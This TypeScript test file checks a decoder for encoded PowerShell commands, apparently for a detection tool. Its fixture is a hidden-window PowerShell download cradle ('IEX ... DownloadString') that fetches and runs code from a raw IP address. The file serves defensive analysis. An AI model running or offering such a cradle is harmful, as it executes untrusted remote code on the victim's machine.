import { describe, expect, it } from 'vitest';
import { decodeEncodedCommand } from './powershell';

// Oracle: Node's own UTF-16LE encoder, independent of the decoder under test (atob + TextDecoder).
const enc = (s: string) => Buffer.from(s, 'utf16le').toString('base64');

describe('decodeEncodedCommand', () => {
  const script = "IEX (New-Object Net.WebClient).DownloadString('http://185.141.62.77/a')";

  it.each(['-enc', '-EncodedCommand', '-e', '-ec', '/enc', '-ENCODEDC', '-en'])('when the parameter is written %s, then the UTF-16LE base64 is decoded', (param) => {
    const cmd = `powershell.exe -nop -w hidden ${param} ${enc(script)}`;
    expect(decodeEncodedCommand(cmd)).toEqual({ param: `-${param.slice(1)}`, encoded: enc(script), decoded: script });
  });

  it('when the command has non-ASCII text, then it survives the round trip', () => {
    expect(decodeEncodedCommand(`powershell -enc ${enc('Write-Host "Grüße €"')}`)?.decoded).toBe('Write-Host "Grüße €"');
  });

  it('when there is no encoded command, or a look-alike parameter, then nothing is decoded', () => {
    expect(decodeEncodedCommand('powershell.exe -ExecutionPolicy Bypass -File a.ps1')).toBeNull();
    expect(decodeEncodedCommand(`powershell.exe -ep ${enc(script)}`)).toBeNull();
    expect(decodeEncodedCommand('cmd.exe /c echo hi')).toBeNull();
  });

  it('when the argument is not UTF-16 text (odd byte count, or control characters), then it is not shown as decoded', () => {
    expect(decodeEncodedCommand(`powershell -enc ${Buffer.from('IEX a', 'utf8').toString('base64')}`)).toBeNull();
    expect(decodeEncodedCommand(`powershell -enc ${Buffer.from([1, 0, 2, 0, 3, 0, 4, 0]).toString('base64')}`)).toBeNull();
  });
});
